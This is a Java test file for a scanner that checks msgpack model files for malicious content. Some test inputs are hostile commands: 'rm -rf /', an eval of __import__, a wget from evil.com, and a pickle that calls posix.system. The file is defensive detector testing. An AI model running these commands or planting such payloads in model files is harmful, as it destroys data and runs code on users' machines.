package dev.countersign.inspect.msgpack;

import static dev.countersign.inspect.bundle.Bundle.rules;
import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.inspect.ArtefactFact;
import dev.countersign.inspect.Inspected;
import dev.countersign.inspect.Verdict;
import dev.countersign.inspect.bundle.Bundle;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class MsgpackFormatTest {
  private static Msgpack params() {
    return new Msgpack().map(1).text("params");
  }

  private static Inspected inspect(Msgpack file) throws IOException {
    return Bundle.inspect("flax_model.msgpack", file.toBytes());
  }

  @Test
  void parametersAreCleanAndTellOfThemselves() throws Exception {
    Msgpack file =
        new Msgpack()
            .map(2)
            .text("params")
            .map(2)
            .text("kernel")
            .array("float32", 24, 2, 3)
            .text("bias")
            .array("bfloat16", 6, 3)
            .text("step")
            .whole(1000);
    Inspected found = inspect(file);
    assertThat(found.findings()).isEmpty();
    assertThat(found.formats()).containsExactly("msgpack");
    assertThat(found.facts())
        .containsEntry(ArtefactFact.TENSORS, "2")
        .containsEntry(ArtefactFact.PARAMETERS, "9")
        .containsEntry(ArtefactFact.TENSOR_TYPES, "float32, bfloat16");
  }

  static Stream<Arguments> arrays() {
    return Stream.of(
        Arguments.of("msgpack-array-size", params().array("float32", 16, 1000, 1000)),
        Arguments.of("msgpack-array-size", params().array("float32", 16, 1L << 40, 1L << 40)),
        Arguments.of("msgpack-array-size", params().array("float32", 16, -4)),
        Arguments.of("msgpack-array-size", params().extension(1, new Msgpack().list(2))),
        Arguments.of("msgpack-array-objects", params().array("object", 16, 2)),
        Arguments.of("msgpack-array-type", params().array("float9", 16, 2)),
        Arguments.of("msgpack-extension", params().extension(42, new Msgpack().list(2))));
  }

  @ParameterizedTest
  @MethodSource("arrays")
  void anArrayThatLiesIsFound(String rule, Msgpack file) throws Exception {
    assertThat(rules(inspect(file))).contains(rule);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "os.system('rm -rf /')",
        "lambda x: eval('__import__(\"os\")')",
        "wget http://evil.com/x.sh"
      })
  void textsThatAreCodeAreSuspicious(String text) throws Exception {
    assertThat(rules(inspect(params().text(text)))).containsExactly("msgpack-text");
    assertThat(rules(inspect(params().binary(text.getBytes(StandardCharsets.UTF_8)))))
        .containsExactly("msgpack-text");
  }

  @Test
  void keysThatAreHooksOfPythonAreSuspicious() throws Exception {
    assertThat(rules(inspect(new Msgpack().map(1).text("__reduce__").whole(1))))
        .containsExactly("msgpack-key");
    assertThat(inspect(new Msgpack().map(1).text("__msgpack_chunked_array__").whole(1)).findings())
        .isEmpty();
  }

  @Test
  void aPickleInsideIsLookedInto() throws Exception {
    byte[] pickle = "cposix\nsystem\n(S'id'\ntR.".getBytes(StandardCharsets.US_ASCII);
    assertThat(inspect(params().binary(pickle)).verdict()).isEqualTo(Verdict.MALICIOUS);
  }

  @Test
  void aPickleByThisNameIsAPickle() throws Exception {
    byte[] pickle = "\u0080\u0004cposix\nsystem\n(S'id'\ntR.".getBytes(StandardCharsets.ISO_8859_1);
    Inspected found = Bundle.inspect("flax_model.msgpack", pickle);
    assertThat(found.formats()).doesNotContain("msgpack");
    assertThat(found.verdict()).isEqualTo(Verdict.MALICIOUS);
  }

  static Stream<Arguments> lies() {
    return Stream.of(
        Arguments.of(params().raw(0xDF, 0xFF, 0xFF, 0xFF, 0xFF)),
        Arguments.of(params().raw(0xDD, 0xFF, 0xFF, 0xFF, 0xFF)),
        Arguments.of(params().raw(0xDB, 0xFF, 0xFF, 0xFF, 0xFF)),
        Arguments.of(params().raw(0xC6, 0xFF, 0xFF, 0xFF, 0xFF)),
        Arguments.of(params().raw(0xC9, 0xFF, 0xFF, 0xFF, 0xFF, 1)),
        Arguments.of(params().raw(0xC1)));
  }

  @ParameterizedTest
  @MethodSource("lies")
  void lengthsThatNoFileHasAreSuspicious(Msgpack file) throws Exception {
    assertThat(rules(inspect(file))).containsExactly("lie");
  }

  @Test
  void nestingWithoutEndIsSuspicious() throws Exception {
    int[] lists = new int[200_000];
    Arrays.fill(lists, 0x91);
    assertThat(rules(inspect(params().raw(lists)))).contains("msgpack-nested-too-deep");
    int[] keys = new int[200_000];
    Arrays.fill(keys, 0x81);
    assertThat(rules(inspect(params().raw(keys)))).contains("msgpack-nested-too-deep");
  }

  @Test
  void whatFollowsIsFoundAndWhatIsCutIsAnError() throws Exception {
    assertThat(rules(inspect(params().whole(1).raw('x', 'y')))).contains("msgpack-trailing");
    byte[] whole = params().array("float32", 24, 6).toBytes();
    assertThat(Bundle.inspect("flax_model.msgpack", Arrays.copyOf(whole, 30)).verdict())
        .isEqualTo(Verdict.ERROR);
  }
}
